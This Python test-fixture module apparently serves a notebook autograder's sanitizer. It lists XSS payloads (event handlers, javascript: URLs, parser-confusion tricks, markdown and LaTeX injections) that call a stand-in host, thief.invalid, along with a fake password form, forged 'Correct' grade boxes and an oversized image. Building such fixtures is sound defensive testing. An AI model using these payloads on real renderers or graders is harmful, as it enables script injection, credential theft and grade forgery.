"""What a hostile student displays and writes. Each payload that works asks for ``https://thief.invalid``."""

from __future__ import annotations

import base64
import struct
import zlib
from typing import Any

RUN = "fetch('https://thief.invalid/ran');window.stolen=1;document.title='stolen'"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"


def make_png(width: int = 1, height: int = 1) -> str:
    """Return a white picture as base64."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00\xff" * min(height, 1))
    content = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(content).decode()


PNG = make_png()

HTML = (
    f"<script>{RUN}</script>",
    '<script src="https://thief.invalid/a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s><image href=\'https://thief.invalid/i\'/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a><use href="data:image/svg+xml,{SVG}#x"/></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<math href="javascript:{RUN}">x<annotation-xml encoding="text/html"><img src=x onerror="{RUN}">',
    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">x</a>',
    f'<a href="java\nscript:{RUN}">x</a><a href="&#106;avascript:{RUN}">x</a><a href=" javascript:{RUN}">x</a>',
    '<a href="data:text/html,<script>1</script>">x</a><a href="https:evil.html">x</a><a href="//thief.invalid">x</a>',
    '<img src="https://thief.invalid/pixel.png"><img srcset="https://thief.invalid/s 1x">',
    '<img src="//thief.invalid/pixel"><input type=image src="https://thief.invalid/in">',
    '<link rel=stylesheet href="https://thief.invalid/a.css"><style>@import url(https://thief.invalid/b.css)</style>',
    '<link rel="dns-prefetch" href="https://thief.invalid"><link rel=prefetch href="https://thief.invalid/p">',
    '<div style="background:url(https://thief.invalid/bg)">x</div><table background="https://thief.invalid/t"><tr><td>1',
    '<div style="position:fixed;inset:0;background:white;z-index:9999">You have 22 / 22 points</div>',
    f'<iframe src="https://thief.invalid/f" srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe><object data="https://thief.invalid/o"></object>',
    '<embed src="https://thief.invalid/e"><frameset><frame src="https://thief.invalid/g"></frameset>',
    '<form action="https://thief.invalid/form"><input name=password autofocus><button>Log in</button></form>',
    f'<form id=x></form><button form=x formaction="javascript:{RUN}">Go</button>',
    '<base href="https://thief.invalid/"><meta http-equiv=refresh content="0;url=https://thief.invalid/m">',
    f'<video src="https://thief.invalid/v" onerror="{RUN}" autoplay></video><audio src="https://thief.invalid/a">',
    f'<video><source onerror="{RUN}" src=x><track src="https://thief.invalid/t"></video>',
    f'<details open ontoggle="{RUN}">x</details><marquee onstart="{RUN}">x</marquee><body onload="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<textarea><img title="</textarea><img src=x onerror={RUN}>">',
    f'<template><script>{RUN}</script></template><xmp><img title="</xmp><img src=x onerror={RUN}>">',
    f"<img src='data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}'>",
    f'<img src="data:text/html;base64,{base64.b64encode(RUN.encode()).decode()}">',
    f'<x onclick="{RUN}" tabindex=1 onfocus="{RUN}" autofocus>x</x><img """><script>{RUN}</script>">',
    f'<!--[if gte IE 4]><script>{RUN}</script><![endif]--><!--><img src=x onerror="{RUN}">-->',
    '<div id="submission_id" name="submission_id" class="navbar-fixed-top full-credit">x</div><p id="df">',
)

MARKDOWN = (
    *HTML,
    *(f"text before\n\n{html}\n\ntext after" for html in HTML),
    f"[click](javascript:{RUN})",
    f"[click]( javascript&colon;{RUN} ) [c](JaVaScRiPt:{RUN}) <javascript:{RUN}>",
    f"[click][r]\n\n[r]: javascript:{RUN}",
    "[click](data:text/html,x) [click](evil.html) [click](https:evil.html) [click](//thief.invalid)",
    "![p](https://thief.invalid/p.png) ![p][r]\n\n[r]: https://thief.invalid/r.png",
    '![p](attachment:x.png"onerror="window.stolen=1)',
    "![p](/api/contents) ![p](../../other/plot.png)",
    f'![p](x"onerror="{RUN})',
    f'```mermaid\ngraph TD\n<img src=x onerror="{RUN}">\n```',
    f'```x"onmouseover="{RUN}\ncode\n```',
    f'$$x$$ <img src=x onerror="{RUN}"> $$y$$',
    f'$\\text{{<img src=x onerror="{RUN}">}}$ and $$\\href{{javascript:{RUN}}}{{x}}$$',
    f'\\begin{{a}}<img src=x onerror="{RUN}">\\end{{a}}',
    f'<div>\n<b$ onclick="{RUN}" onmouseover=1>\n</div>',
    f'> - <b\n  onclick="{RUN}">x</b>',
    f'`` ` <img src=x onerror="{RUN}">',
    f'| a | b |\n|---|---|\n| <img src=x onerror="{RUN}"> | 2 |',
    f'# <img src=x onerror="{RUN}">\n',
    "``````\n" + HTML[0] + "\n``````\n" + HTML[2],
)


def display(**data: Any) -> dict[str, Any]:
    return {
        "output_type": "display_data",
        "data": {name.replace("_", "/", 1): value for name, value in data.items()},
        "metadata": {},
    }


FORGED_BOX = (
    '<div role="status" style="border-left:4px solid #14662b;padding:.4em .9em;margin:.3em 0;font-family:sans-serif">'
    '<strong style="color:#14662b">✔ Correct</strong> · 1 / 1 points<div>Correct.</div></div>'
)

OUTPUTS: tuple[Any, ...] = (
    *(display(text_html=html, text_plain="shown") for html in HTML),
    *(display(text_markdown=text, text_plain="shown") for text in MARKDOWN),
    display(text_html=["<scr", f"ipt>{RUN}</script>"]),
    {"output_type": "display_data", "data": {"image/svg+xml": SVG, "text/plain": "svg"}, "metadata": {}},
    {"output_type": "display_data", "data": {"application/javascript": RUN}, "metadata": {}},
    {"output_type": "display_data", "data": {"text/vnd.mermaid": f"<img src=x onerror='{RUN}'>"}, "metadata": {}},
    {
        "output_type": "display_data",
        "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "application/pdf": "JVBERi0="},
        "metadata": {},
    },
    {
        "output_type": "display_data",
        "data": {"text/html": HTML[0]},
        "metadata": {"text/html": {"isolated": True}, "filenames": {"image/png": "https://thief.invalid/f.png"}},
    },
    {
        "output_type": "display_data",
        "data": {"image/png": PNG},
        "metadata": {"image/png": {"width": f"1 onload={RUN}", "height": 3, "alt": "x", "unconfined": True}},
    },
    display(image_png=f'x" onerror="{RUN}'),
    display(image_jpeg=base64.b64encode(SVG.encode()).decode()),
    display(image_png=make_png(60_000, 60_000)),
    display(text_latex=f'$$\\href{{javascript:{RUN}}}{{x}} <img src=x onerror="{RUN}">$$'),
    {"output_type": "stream", "name": "stdout", "text": f"\x1b]8;;https://thief.invalid\x07x\x1b]8;;\x07 {HTML[2]}"},
    {"output_type": "stream", "name": f'x"><script>{RUN}</script>', "text": HTML[0]},
    {"output_type": "error", "ename": HTML[0], "evalue": HTML[2], "traceback": [f"\x1b[31m{HTML[0]}\x1b[0m", HTML[2]]},
    {"output_type": "execute_result", "data": {"text/html": HTML[2]}, "metadata": {}, "execution_count": HTML[0]},
    display(text_html=FORGED_BOX),
)

NONSENSE: tuple[Any, ...] = (
    None,
    7,
    "text",
    [],
    {},
    {"output_type": "display_data"},
    {"output_type": "display_data", "data": [1], "metadata": 3},
    {"output_type": "display_data", "data": {"text/plain": None, 3: "x", "image/png": {"a": 1}}, "metadata": None},
    {"output_type": "stream"},
    {"output_type": "stream", "name": 3, "text": {"a": "\ud800"}},
    {"output_type": "error", "traceback": "not a list"},
    {"output_type": "error", "ename": None, "evalue": ["\ud800"], "traceback": [None, {"x": 1}]},
    {"output_type": ["stream"], "text": "x"},
    {"output_type": "update_display_data", "data": {"text/plain": "x"}},
)
